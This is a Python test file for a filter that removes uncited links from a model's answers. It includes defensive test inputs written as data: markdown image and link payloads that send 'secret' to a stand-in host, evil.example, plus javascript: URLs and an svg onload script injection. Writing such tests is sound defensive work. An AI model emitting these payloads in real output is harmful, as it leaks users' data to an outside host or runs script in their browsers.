"""Links in a model's words: an address that no cited passage holds is never left, however it is written."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.cite.links import keep_known

KNOWN = "https://help.example/faults"
WRITTEN_OUT = re.compile(
    r"(?:[a-z][a-z0-9+.-]+:/|(?<![\w:/\\])/)/[^\s<>]*[.:@][^\s<>]+|\bwww\.[^\s<>]+|[\w.+-]+@[\w-]+\.\w+"
    r"|\bjavascript:\S+",
    re.IGNORECASE,
)


def filtered(text: str) -> str:
    return keep_known(text, lambda url: url == KNOWN)


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("![a [b]](//evil.example/p.png?d=secret)", "a [b]"),
        ("[x](//evil.example/?q=(a(b(c))))", "x"),
        ("[two\nlines](//evil.example/?q=secret)", "two\nlines"),
        ("[![a](x)](//evil.example/?q=secret)", "a"),
        ("[x](<//evil.example/a b>)", "x"),
        ('[x](//evil.example "a title")', "x"),
        ("[x](&#47;&#47;evil.example)", "x"),
        (r"![x](/\evil.example)", "x"),
        ("[x](relative?q=secret)", "x"),
        ("[x](javascript:alert(1))", "x"),
        ("![x](data:image/png;base64,AAAA)", "x"),
        ("[x][one], then", "x, then"),
        ("[one]: //evil.example/?q=secret", ""),
        ("See <https://evil.example/?q=secret>.", "See."),
        ("See //evil.example/?q=secret now", "See now"),
        ("See www.evil.example/?q=secret now", "See now"),
        ("Write to someone@evil.example now", "Write to now"),
        ('<a href="//evil.example">x</a>', "x"),
        ("x <img src='//evil.example/p.png?d=secret'>", "x"),
        ("<svg/onload=alert(1)>x<!-- //evil.example -->", "x"),
    ],
)
def test_an_address_that_no_passage_holds_goes_and_its_words_stay(written: str, left: str) -> None:
    assert filtered(written) == left


@pytest.mark.parametrize(
    "text",
    [
        f"Report faults [here]({KNOWN}), at <{KNOWN}> or {KNOWN}.",
        f"[![the form]({KNOWN})]({KNOWN})",
        "Run deploy --target <name> --region <region>.",
        "It holds where a < b and c > d, for List<String> too.",
        "Both are in matrix a[i][j], dict[str]: x and C:\\folder\\file.",
        "Either and/or 5//6, on 3/4/2024; see ratio: high, data: low.",
    ],
)
def test_known_addresses_and_what_is_none_are_left_as_they_are(text: str) -> None:
    assert filtered(text) == text


def test_a_program_is_no_address_even_where_a_passage_holds_it() -> None:
    assert keep_known("[x](javascript:alert) javascript:alert", lambda _: True) == "x"


# --- whatever is written ---------------------------------------------------------------------

PIECES = st.sampled_from([
    "//evil.example/?q=1", "https://evil.example/p.png", "/\\evil.example", "//evil/x", "www.evil.example",
    "javascript:alert(1)", "data:text/html,x", "evil", "mailto:a@evil.example", "&#47;", "&sol;", "&lt;",
    "&amp;", KNOWN, f"[known]({KNOWN})", "[", "]", "![", "](", "](<", ")", "(", ">", "<", "<a", "<img",
    "</a>", "<name>", " href=", " src=", ' style="', "[r]: ", "[r]", "[x][r]", "`", "```", "\\", "*", "\n",
    "\n\n", " ", '"', "'", "word", ".", ":", "/", "<!--", "-->", "    ", "> ", "- ", "1. ", "#",
])  # fmt: skip
SENTENCES = st.lists(PIECES | st.text(alphabet="[]()<>!:/\\&;\"'` \nab", max_size=4), max_size=14).map(
    "".join
)


class Addresses(HTMLParser):
    """What a browser would follow or fetch: every attribute counts that is not there to be read."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.text = ""
        self.in_code = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_code |= tag == "code"
        self.text += " " if tag in ("a", "code", "img") else ""
        self.found |= {
            value for name, value in attrs if value and name not in ("alt", "title", "class", "start")
        }

    def handle_endtag(self, tag: str) -> None:
        self.in_code &= tag != "code"
        self.text += " " if tag == "a" else ""

    def handle_data(self, data: str) -> None:
        self.text += "" if self.in_code else data


def read(html: str) -> Addresses:
    reader = Addresses()
    reader.feed(html)
    reader.close()
    return reader


def addresses(text: str) -> set[str]:
    """What is followed in HTML, in markdown, and in markdown whose plain text is made links of."""
    careless = MarkdownIt("commonmark", {"html": True})
    careless.validateLink = lambda _: True  # type: ignore[method-assign]  # as a careless renderer
    shown = [read(careless.render(text)), read(MarkdownIt("js-default").render(text))]
    plain = [found for page in shown for found in WRITTEN_OUT.findall(page.text)]
    written_out = {found.rstrip(".,;:!?*_~'\"`)]}") for found in plain}
    return written_out.union(read(text).found, *(page.found for page in shown))


@given(SENTENCES, SENTENCES)
@example(f"{KNOWN}` `[", "")  # what stands on both sides of code is no one word
@settings(max_examples=200, deadline=None)
def test_no_output_holds_an_address_that_no_cited_passage_holds(one: str, other: str) -> None:
    shown = [filtered(one), filtered(other)]
    for text in (*shown, " ".join(shown), "\n".join(shown)):
        assert addresses(text) <= {KNOWN}, text


@given(SENTENCES)
def test_what_was_filtered_once_is_left_as_it_is(text: str) -> None:
    assert filtered(filtered(text)) == filtered(text)
